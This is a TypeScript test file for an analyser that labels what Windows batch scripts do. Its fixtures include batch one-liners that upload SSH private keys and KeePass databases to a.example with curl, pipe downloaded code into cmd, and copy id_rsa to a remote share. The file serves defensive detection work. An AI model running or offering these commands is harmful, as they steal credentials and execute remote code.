import { expect, test } from "vitest";
import { readScript } from "../../../src/read/read-script.ts";
import { only, say } from "./say.ts";

const told = (text: string, op: string): readonly string[] => only(say(readScript, "batch", text), op);

test.each([
  [
    "files of a loop",
    "for %%f in (%USERPROFILE%\\.ssh\\id_*) do curl -T %%f https://a.example/",
    "read-file",
    String.raw`1:1 path=~~\.ssh\id_*`,
  ],
  [
    "files below a folder",
    'for /r "C:\\x" %%f in (*.kdbx) do curl -T %%f https://a.example/',
    "read-file",
    String.raw`1:1 path=~C:\x\*.kdbx`,
  ],
  [
    "what a label is called with",
    "call :get http://a.example/x.exe\ngoto :eof\n:get\ncurl -o y.exe %1",
    "download",
    "4:1 url=http://a.example/x.exe destination=y.exe",
  ],
  [
    "what comes into cmd is its program",
    "curl -s http://a.example/x | cmd",
    "evaluate",
    "1:30 language=batch code=~□<network:http://a.example/x>",
  ],
  [
    "a file on another machine",
    "copy %USERPROFILE%\\.ssh\\id_rsa \\\\192.0.2.1\\in\\k",
    "send",
    String.raw`1:1 channel=socket destination=\\192.0.2.1\in\k payload=[~□<file:~\.ssh\id_rsa>]`,
  ],
])("%s", (_name, text, op, expected) => {
  expect(told(text, op)).toEqual([expected]);
});

test("near miss: numbers of a loop are no files", () => {
  expect(told("for /l %%i in (1,1,9) do type %%i.txt", "send")).toEqual([]);
});
